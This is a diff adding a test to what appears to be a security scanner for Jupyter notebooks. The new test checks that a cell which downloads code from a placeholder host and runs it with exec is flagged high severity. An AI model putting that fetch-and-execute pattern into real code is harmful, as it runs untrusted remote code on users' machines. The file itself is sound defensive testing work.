@@ -37,3 +37,9 @@ def test_decoded_text_is_executed() -> None:
 def test_ordinary_cells() -> None:
     text = notebook("!pip install numpy", "!wget https://a.invalid/data.csv", "model.eval()\nbase64.b64decode(x)")
     assert graded("x.ipynb", text) == []
+
+
+def test_a_name_that_holds_an_answer() -> None:
+    text = notebook("import requests\ncode = requests.get('https://a.invalid/u').text\nexec(code)\n")
+    assert [g[1:] for g in graded("x.ipynb", text)] == [(Severity.HIGH, Confidence.HIGH)]
+    assert graded("x.ipynb", notebook("import requests\nr = requests.get('https://a.invalid/u')\nexec(own)\n")) == []
